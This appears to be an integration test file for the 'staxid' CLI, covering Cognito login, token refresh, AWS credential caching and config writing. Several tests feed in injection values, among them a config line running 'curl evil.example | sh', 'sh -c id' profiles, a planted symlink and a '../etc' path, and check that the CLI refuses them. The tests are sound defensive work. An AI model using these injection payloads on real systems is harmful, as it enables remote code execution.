/**
 * cli/staxid.ts: every command run in process against a real HTTP server playing the staxid
 * API and a real cognito-local for people's sign-in.
 */

import {
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type FakeApi, startFakeApiOver, TEST_ROLES } from '@/test/cli/fake-staxid-api';
import { runCli } from '@/test/cli/run-cli';
import { startTestCognito, TEMPORARY_PASSWORD, type TestCognito } from '@/test/support/cognito-local';

const API_TOKEN = {
  accessKey: '0d3d2b0e-6a9f-4c55-9a43-7d5c8e5a1f00',
  secretKey: 'S3cretS3cretS3cretS3cretS3cret12',
};
const PASSWORD = 'Correct-Horse-Battery-9';
const HOUR_MS = 3600_000;

let cognito: TestCognito;
let api: FakeApi;
let root: string;
let localHome: string;
let dir: string;
let env: NodeJS.ProcessEnv;
let userCount = 0;

beforeAll(async () => {
  cognito = await startTestCognito();
  api = await startFakeApiOver(cognito, { apiToken: API_TOKEN });
  root = mkdtempSync(join(tmpdir(), 'staxid-cli-'));
  localHome = join(root, 'local-home');
  mkdirSync(localHome);
  writeFileSync(join(localHome, 'local.json'), JSON.stringify({ api: api.url, cognito: cognito.endpoint }));
});
afterAll(async () => {
  await api.stop();
  await cognito.stop();
  rmSync(root, { recursive: true, force: true });
});
beforeEach(() => {
  dir = mkdtempSync(join(root, 'config-'));
  rmSync(dir, { recursive: true });
  env = { STAXID_CONFIG_DIR: dir, STAXID_HOME: localHome };
  api.calls.clear();
});

const mode = (path: string) => statSync(path).mode & 0o777;
const savedSession = (profile = 'default') =>
  JSON.parse(readFileSync(join(dir, 'credentials.json'), 'utf8')).profiles[profile];
const calls = (route: string) => api.calls.get(route) ?? 0;

/** An unsigned token with the claims the fake API checks, as Cognito would issue for the console client. */
function accessToken(): string {
  const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const claims = {
    sub: 'rotated-user',
    token_use: 'access',
    client_id: cognito.userPoolClientId,
    iss: `${cognito.endpoint}/${cognito.userPoolId}`,
    exp: Math.floor(Date.now() / 1000) + 3600,
  };
  return `${encode({ alg: 'none' })}.${encode(claims)}.sig`;
}

/** A confirmed cognito-local user with PASSWORD (or a temporary password when `temporary`). */
async function createUser(temporary = false): Promise<string> {
  userCount += 1;
  const username = `cli-user-${userCount}`;
  await cognito.createUser(username, temporary ? undefined : PASSWORD);
  return username;
}

async function loginAsUser(profile = 'default'): Promise<string> {
  const username = await createUser();
  const result = await runCli(
    ['login', '--api', api.url, '--username', username, '--password-stdin', '--profile', profile],
    { env, stdin: `${PASSWORD}\n` },
  );
  expect(result).toMatchObject({ code: 0, stdout: '' });
  return username;
}

function loginWithApiToken() {
  return runCli(
    ['login', '--api', `${api.url}/`, '--access-key', API_TOKEN.accessKey, '--secret-key-stdin'],
    {
      env,
      stdin: `${API_TOKEN.secretKey}\n`,
    },
  );
}

describe('staxid login with an API token', () => {
  it('exchanges the key pair at /oauth2/token and keeps the session in a 0700 directory, 0600 file', async () => {
    const result = await loginWithApiToken();
    expect(result).toEqual({ code: 0, stdout: '', stderr: `Signed in to ${api.url} (profile default).\n` });
    expect(calls('POST /oauth2/token')).toBe(1);
    expect(mode(dir)).toBe(0o700);
    expect(mode(join(dir, 'credentials.json'))).toBe(0o600);
    expect(savedSession()).toMatchObject({
      method: 'api-token',
      api: api.url,
      region: 'eu-west-2',
      accessKey: API_TOKEN.accessKey,
      secretKey: API_TOKEN.secretKey,
      accessToken: 'api-token-jwt-1',
    });

    const whoami = await runCli(['whoami'], { env });
    expect(whoami.code).toBe(0);
    expect(JSON.parse(whoami.stdout)).toEqual({ Id: API_TOKEN.accessKey, Kind: 'api-token' });
  });

  it('takes the key pair from STAXID_ACCESS_KEY and STAXID_SECRET_KEY', async () => {
    const result = await runCli(['login', '--api', api.url], {
      env: { ...env, STAXID_ACCESS_KEY: API_TOKEN.accessKey, STAXID_SECRET_KEY: API_TOKEN.secretKey },
    });
    expect(result.code).toBe(0);
    expect(savedSession().accessKey).toBe(API_TOKEN.accessKey);
  });

  it('exchanges the key pair again once the token has expired', async () => {
    await loginWithApiToken();
    const first = savedSession().accessToken;
    const later = new Date(Date.now() + 2 * HOUR_MS);

    const whoami = await runCli(['whoami'], { env, now: later });

    expect(whoami.code).toBe(0);
    expect(calls('POST /oauth2/token')).toBe(2);
    const renewed = savedSession();
    expect(renewed.accessToken).not.toBe(first);
    expect(api.bearers.at(-1)).toBe(renewed.accessToken);
    expect(Date.parse(renewed.expiresAt)).toBeGreaterThan(later.getTime());
  });

  it('refuses a wrong secret with the endpoint’s error, writing nothing', async () => {
    const result = await runCli(
      ['login', '--api', api.url, '--access-key', API_TOKEN.accessKey, '--secret-key-stdin'],
      {
        env,
        stdin: 'wrong',
      },
    );
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain('refused (401): invalid_client: The AccessKey or SecretKey is wrong.');
    expect(() => statSync(join(dir, 'credentials.json'))).toThrow();
  });

  it('shows the sign-in route’s 403 for AWS credentials: API tokens are not people', async () => {
    await loginWithApiToken();
    const result = await runCli(['credentials', '--account', '111111111111', '--role', 'staxid-admin-role'], {
      env,
    });
    expect(result).toEqual({
      code: 1,
      stdout: '',
      stderr: `staxid: POST ${api.url}/20190206/aws/sign-in refused (403): API tokens cannot sign in to AWS: AWS sign-in is for people.\n`,
    });
  });
});

describe('staxid login as a person', () => {
  it('signs in with the password through cognito-local, found in $STAXID_HOME/local.json as npm start writes it', async () => {
    const username = await loginAsUser();
    const session = savedSession();
    expect(session).toMatchObject({
      method: 'password',
      username,
      cognitoEndpoint: cognito.endpoint,
      clientId: cognito.userPoolClientId,
    });
    expect(session.refreshToken).toEqual(expect.any(String));
    expect(Date.parse(session.expiresAt)).toBeGreaterThan(Date.now());
    const whoami = await runCli(['whoami'], { env });
    expect(JSON.parse(whoami.stdout)).toMatchObject({ Kind: 'user' });
  });

  it('sets a new password when the current one is temporary (NEW_PASSWORD_REQUIRED)', async () => {
    const username = await createUser(true);
    const result = await runCli(['login', '--api', api.url, '--username', username, '--password-stdin'], {
      env,
      stdin: `${TEMPORARY_PASSWORD}\n${PASSWORD}\n`,
    });
    expect(result.code).toBe(0);

    const again = await runCli(['login', '--api', api.url, '--username', username, '--password-stdin'], {
      env,
      stdin: PASSWORD,
    });
    expect(again.code).toBe(0);
  });

  it('says the password must change when stdin has no new one', async () => {
    const username = await createUser(true);
    const result = await runCli(['login', '--api', api.url, '--username', username, '--password-stdin'], {
      env,
      stdin: `${TEMPORARY_PASSWORD}\n`,
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('Your password is temporary and must be changed');
  });

  it('refuses a wrong password with Cognito’s reason', async () => {
    const username = await createUser();
    const result = await runCli(['login', '--api', api.url, '--username', username, '--password-stdin'], {
      env,
      stdin: 'not-the-password',
    });
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/^staxid: Cognito refused InitiateAuth: \w+Exception/);
  });

  it('takes the Cognito endpoint from --cognito-endpoint or STAXID_COGNITO_ENDPOINT for an API local.json does not describe', async () => {
    const other = await startFakeApiOver(cognito, { apiToken: API_TOKEN });
    try {
      const username = await createUser();
      const args = ['login', '--api', other.url, '--username', username, '--password-stdin'];
      const byFlag = await runCli([...args, '--cognito-endpoint', cognito.endpoint], {
        env,
        stdin: PASSWORD,
      });
      expect(byFlag.code).toBe(0);
      expect(savedSession().cognitoEndpoint).toBe(cognito.endpoint);
      rmSync(dir, { recursive: true });

      const byEnv = await runCli(args, {
        env: { ...env, STAXID_COGNITO_ENDPOINT: cognito.endpoint },
        stdin: PASSWORD,
      });
      expect(byEnv.code).toBe(0);
      expect(savedSession()).toMatchObject({ api: other.url, cognitoEndpoint: cognito.endpoint });
    } finally {
      await other.stop();
    }
  });

  it('refreshes the tokens with the refresh token once they have expired', async () => {
    await loginAsUser();
    const stored = savedSession();
    writeFileSync(
      join(dir, 'credentials.json'),
      JSON.stringify({
        profiles: {
          default: { ...stored, accessToken: 'stale', expiresAt: new Date(Date.now() - 1000).toISOString() },
        },
      }),
    );

    const whoami = await runCli(['whoami'], { env });

    expect(whoami.code).toBe(0);
    const refreshed = savedSession();
    expect(refreshed.accessToken).not.toBe('stale');
    expect(refreshed.refreshToken).toBe(stored.refreshToken);
    expect(Date.parse(refreshed.expiresAt)).toBeGreaterThan(Date.now());
    expect(mode(join(dir, 'credentials.json'))).toBe(0o600);
  });

  it('refreshes with GetTokensFromRefreshToken where Cognito has it, keeping the rotated refresh token', async () => {
    await loginAsUser();
    const targets: string[] = [];
    const rotating = createServer((request, response) => {
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        targets.push(String(request.headers['x-amz-target']));
        const body = JSON.parse(Buffer.concat(chunks).toString('utf8'));
        const known =
          request.headers['x-amz-target'] === 'AWSCognitoIdentityProviderService.GetTokensFromRefreshToken' &&
          body.RefreshToken === 'refresh-1' &&
          body.ClientId === cognito.userPoolClientId;
        response.writeHead(known ? 200 : 400, { 'Content-Type': 'application/x-amz-json-1.1' });
        response.end(
          JSON.stringify(
            known
              ? {
                  AuthenticationResult: {
                    AccessToken: accessToken(),
                    IdToken: 'id',
                    RefreshToken: 'refresh-2',
                    ExpiresIn: 3600,
                  },
                }
              : { __type: 'NotAuthorizedException', message: 'Invalid Refresh Token' },
          ),
        );
      });
    });
    await new Promise<void>((resolve) => rotating.listen(0, '127.0.0.1', resolve));
    try {
      const endpoint = `http://127.0.0.1:${(rotating.address() as AddressInfo).port}`;
      const stale = {
        ...savedSession(),
        cognitoEndpoint: endpoint,
        refreshToken: 'refresh-1',
        expiresAt: new Date(0),
      };
      writeFileSync(join(dir, 'credentials.json'), JSON.stringify({ profiles: { default: stale } }));

      const whoami = await runCli(['whoami'], { env });

      expect(whoami.code).toBe(0);
      expect(targets).toEqual(['AWSCognitoIdentityProviderService.GetTokensFromRefreshToken']);
      expect(savedSession().refreshToken).toBe('refresh-2');
    } finally {
      rotating.close();
    }
  });

  it('asks to log in again when the refresh token is refused', async () => {
    await loginAsUser();
    const stored = savedSession();
    writeFileSync(
      join(dir, 'credentials.json'),
      JSON.stringify({
        profiles: { default: { ...stored, refreshToken: 'revoked', expiresAt: new Date(0).toISOString() } },
      }),
    );
    const whoami = await runCli(['whoami'], { env });
    expect(whoami.code).toBe(1);
    expect(whoami.stdout).toBe('');
    expect(whoami.stderr).toMatch(/Your staxid session has ended .*run `staxid login` again\.\n$/);
  });
});

describe('staxid credentials', () => {
  it('prints exactly the credential_process JSON and serves it from a 0600 cache until 5 minutes before expiry', async () => {
    await loginAsUser();
    const args = ['credentials', '--account', '111111111111', '--role', 'staxid-admin-role'];

    const first = await runCli(args, { env });
    expect(first.code).toBe(0);
    expect(first.stdout.endsWith('\n')).toBe(true);
    const credentials = JSON.parse(first.stdout);
    expect(Object.keys(credentials)).toEqual([
      'Version',
      'AccessKeyId',
      'SecretAccessKey',
      'SessionToken',
      'Expiration',
    ]);
    expect(credentials).toMatchObject({
      Version: 1,
      SecretAccessKey: 'secret-111111111111-staxid-admin-role-1',
    });

    const second = await runCli(args, { env });
    expect(second.stdout).toBe(first.stdout);
    expect(calls('POST /20190206/aws/sign-in')).toBe(1);
    const [cacheFile] = readdirSync(join(dir, 'aws', 'default'));
    expect(mode(join(dir, 'aws', 'default', String(cacheFile)))).toBe(0o600);
    expect(mode(join(dir, 'aws'))).toBe(0o700);

    const nearExpiry = new Date(Date.parse(credentials.Expiration) - 4 * 60_000);
    const renewed = await runCli(args, { env, now: nearExpiry });
    expect(calls('POST /20190206/aws/sign-in')).toBe(2);
    expect(JSON.parse(renewed.stdout).AccessKeyId).not.toBe(credentials.AccessKeyId);
  });

  it('resolves an account name through /users/me/aws-roles, case-insensitively', async () => {
    await loginAsUser();
    const result = await runCli(
      ['credentials', '--account', 'dev sandbox', '--role', 'staxid-developer-role'],
      {
        env,
      },
    );
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout).SecretAccessKey).toMatch(/^secret-222222222222-staxid-developer-role-/);
  });

  it.each([
    [
      ['--account', 'Staging', '--role', 'staxid-admin-role'],
      'staxid: You hold no role in an account named "Staging". Accounts you can reach: Dev Sandbox, Production.\n',
    ],
    [
      ['--account', '222222222222', '--role', 'staxid-admin-role'],
      'refused (403): You do not hold staxid-admin-role in account 222222222222.\n',
    ],
  ])('fails on %j with a non-zero exit and nothing on stdout', async (args, message) => {
    await loginAsUser();
    const result = await runCli(['credentials', ...args], { env });
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr.endsWith(message)).toBe(true);
  });

  it('does not serve the previous sign-in’s cached credentials after logging in as someone else', async () => {
    const args = ['credentials', '--account', '111111111111', '--role', 'staxid-admin-role'];
    await loginAsUser();
    const first = await runCli(args, { env });
    await loginAsUser();

    const second = await runCli(args, { env });
    expect(second.code).toBe(0);
    expect(calls('POST /20190206/aws/sign-in')).toBe(2);
    expect(JSON.parse(second.stdout).AccessKeyId).not.toBe(JSON.parse(first.stdout).AccessKeyId);
  });

  it('tells how to sign in when the profile has no session', async () => {
    const result = await runCli(
      ['credentials', '--account', '111111111111', '--role', 'r', '--profile', 'work'],
      {
        env,
      },
    );
    expect(result).toEqual({
      code: 1,
      stdout: '',
      stderr: 'staxid: Not signed in (profile work): run `staxid login --api <URL> --profile work` first.\n',
    });
  });
});

describe('staxid configure', () => {
  const foreign = '[default]\nregion = us-east-1\n\n# my own\n[profile mine]\nregion = eu-west-1\n';

  it('writes one profile per account and role, keeps the rest of the file, and is idempotent', async () => {
    await loginAsUser();
    const file = join(root, `aws-config-${Date.now()}`);
    writeFileSync(file, foreign, { mode: 0o640 });
    const selfCommand = ['/usr/bin/node', '/opt/my tools/staxid.cjs'];

    const result = await runCli(['configure', '--aws-config', file], { env, selfCommand });
    expect(result.code).toBe(0);
    const text = readFileSync(file, 'utf8');
    expect(text.startsWith(foreign)).toBe(true);
    expect(text).toContain(
      [
        '[profile staxid-dev-sandbox-staxid-developer-role]',
        `credential_process = /usr/bin/node "/opt/my tools/staxid.cjs" credentials --account 222222222222 --role staxid-developer-role --profile default --config-dir ${dir}`,
        'region = eu-west-2',
      ].join('\n'),
    );
    expect(text.match(/^\[profile staxid-/gm)).toHaveLength(3);
    expect(text).toMatch(/\n# BEGIN staxid staxid\n[\s\S]*\n# END staxid staxid\n$/);
    expect(mode(file)).toBe(0o640);

    await runCli(['configure', '--aws-config', file], { env, selfCommand });
    expect(readFileSync(file, 'utf8')).toBe(text);
  });

  it('creates the AWS config 0600 from AWS_CONFIG_FILE when there is none', async () => {
    await loginAsUser();
    const file = join(mkdtempSync(join(root, 'aws-')), 'sub', 'config');
    const result = await runCli(['configure', '--prefix', 'corp'], {
      env: { ...env, AWS_CONFIG_FILE: file },
    });
    expect(result.code).toBe(0);
    expect(mode(file)).toBe(0o600);
    expect(readFileSync(file, 'utf8')).toContain('[profile corp-production-staxid-readonly-role]');
  });

  it('refuses a --region that is not an AWS region name, writing nothing', async () => {
    await loginAsUser();
    const file = join(root, `aws-config-region-${Date.now()}`);
    const result = await runCli(
      [
        'configure',
        '--aws-config',
        file,
        '--region',
        'eu-west-2\n[profile default]\ncredential_process = sh -c id',
      ],
      { env },
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('is not an AWS region name such as eu-west-2');
    expect(() => statSync(file)).toThrow();
  });

  it('writes the config without following a link planted where its temporary file used to go', async () => {
    await loginAsUser();
    const shared = mkdtempSync(join(root, 'shared-'));
    const file = join(shared, 'config');
    const victim = join(shared, 'victim');
    writeFileSync(victim, 'untouched\n');
    symlinkSync(victim, `${file}.${process.pid}.tmp`);

    const result = await runCli(['configure', '--aws-config', file], { env });
    expect(result.code).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('untouched\n');
    expect(lstatSync(file).isFile()).toBe(true);
    expect(readdirSync(shared).filter((name) => name.endsWith('.tmp'))).toEqual([
      `config.${process.pid}.tmp`,
    ]);
  });

  it('refuses an API token session, since AWS sign-in is for people', async () => {
    await loginWithApiToken();
    const file = join(root, `aws-config-token-${Date.now()}`);
    const result = await runCli(['configure', '--aws-config', file], { env });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('Profile signed in with an API token');
    expect(() => statSync(file)).toThrow();
  });

  it('leaves the file alone when a foreign profile has a name it would write', async () => {
    await loginAsUser();
    const file = join(root, `aws-config-clash-${Date.now()}`);
    const clashing = '[profile staxid-production-staxid-admin-role]\nregion = us-east-1\n';
    writeFileSync(file, clashing);
    const result = await runCli(['configure', '--aws-config', file], { env });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      'already has a profile staxid-production-staxid-admin-role outside the staxid block',
    );
    expect(readFileSync(file, 'utf8')).toBe(clashing);
  });
});

describe('a hostile or compromised staxid API', () => {
  const injection = 'eu-west-2\n[profile default]\ncredential_process = sh -c "curl evil.example | sh"';
  let hostile: FakeApi;
  afterEach(() => hostile?.stop());

  async function startHostileApi(region: string, roles = TEST_ROLES): Promise<FakeApi> {
    hostile = await startFakeApiOver(cognito, { apiToken: API_TOKEN, roles, region });
    return hostile;
  }

  it.each([
    ['a line break', injection],
    ['a host of its own', 'evil.example/x?'],
  ])('cannot name a region with %s: login refuses before asking for the password', async (_what, region) => {
    const { url } = await startHostileApi(region);
    const result = await runCli(['login', '--api', url, '--username', 'someone', '--password-stdin'], {
      env,
      stdin: `${PASSWORD}\n`,
    });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      `${url}/20190206/public/config names the region ${JSON.stringify(region)}, which is not an AWS region`,
    );
    expect(() => statSync(join(dir, 'credentials.json'))).toThrow();
  });

  it('refuses the region for an API token login too', async () => {
    const { url } = await startHostileApi(injection);
    const result = await runCli(
      ['login', '--api', url, '--access-key', API_TOKEN.accessKey, '--secret-key-stdin'],
      {
        env,
        stdin: `${API_TOKEN.secretKey}\n`,
      },
    );
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('which is not an AWS region');
    expect(hostile.calls.get('POST /oauth2/token')).toBeUndefined();
  });

  it('cannot write lines of its own through AccountId or RoleName: configure leaves such roles out', async () => {
    const [good] = TEST_ROLES;
    if (!good) throw new Error('TEST_ROLES is empty');
    const { url } = await startHostileApi('eu-west-2', [
      good,
      { ...good, AccountId: '333333333333\n[profile default]\ncredential_process = sh -c id' },
      { ...good, AccountId: '444444444444', RoleName: 'admin\n[profile default]' },
      { ...good, AccountId: '55555', RoleName: 'short-account-id' },
    ]);
    const username = await createUser();
    await runCli(
      [
        'login',
        '--api',
        url,
        '--username',
        username,
        '--password-stdin',
        '--cognito-endpoint',
        cognito.endpoint,
      ],
      {
        env,
        stdin: `${PASSWORD}\n`,
      },
    );
    const file = join(root, `aws-config-hostile-${Date.now()}`);

    const result = await runCli(['configure', '--aws-config', file], { env });
    expect(result.code).toBe(0);
    const text = readFileSync(file, 'utf8');
    expect(text.match(/^\[profile /gm)).toEqual(['[profile ']);
    expect(text).toContain('[profile staxid-production-staxid-admin-role]');
    expect(text).not.toMatch(/\[profile default|short-account-id|333333333333|444444444444/);
  });
});

describe('staxid logout', () => {
  it('forgets the profile and its cached AWS credentials, keeping other profiles', async () => {
    await loginAsUser('work');
    await loginAsUser('home');
    await runCli(
      ['credentials', '--account', '111111111111', '--role', 'staxid-admin-role', '--profile', 'work'],
      {
        env,
      },
    );
    const result = await runCli(['logout', '--profile', 'work'], { env });
    expect(result).toEqual({ code: 0, stdout: '', stderr: 'Signed out (profile work).\n' });
    expect(savedSession('work')).toBeUndefined();
    expect(savedSession('home')).toBeDefined();
    expect(() => statSync(join(dir, 'aws', 'work'))).toThrow();
    const whoami = await runCli(['whoami', '--profile', 'work'], { env });
    expect(whoami.code).toBe(1);
  });
});

describe('usage', () => {
  it.each([
    [['login', '--api', 'http://example.com', '--username', 'u']],
    [['credentials', '--account', '111111111111']],
    [['credentials', '--bogus']],
    [['whoami', '--profile', '../etc']],
    [['frobnicate']],
    [[]],
  ])('%j exits 2 with the reason on stderr and nothing on stdout', async (args) => {
    const result = await runCli(args, { env });
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/^(staxid: |Usage: staxid)/);
  });

  it('prints each command’s help on stdout', async () => {
    for (const command of ['login', 'credentials', 'configure', 'whoami', 'logout']) {
      const result = await runCli([command, '--help'], { env });
      expect(result.code).toBe(0);
      expect(result.stdout).toMatch(new RegExp(`^staxid ${command}`));
    }
  });
});
